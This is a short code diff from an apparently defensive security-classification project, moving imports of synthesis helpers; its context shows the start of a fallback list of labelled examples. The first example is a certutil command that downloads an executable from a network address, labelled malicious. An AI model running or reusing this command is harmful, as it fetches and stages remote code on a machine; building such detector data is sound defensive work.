@@ -21,9 +21,8 @@ from pathlib import Path
 
 from distilsec.data.example import Example
 from distilsec.errors import DataError
-from distilsec.methods.synthesize import synthesize
-from distilsec.synth import LLMGenerator, make_mutator
-from distilsec.synth.report import write_synth_run
+from distilsec.methods.synthesize import LLMGenerator, make_mutator, synthesize
+from distilsec.methods.synthesize.report import write_synth_run
 
 FALLBACK = [
     ("certutil.exe -urlcache -split -f http://10.0.0.5/a.exe a.exe", "malicious"),
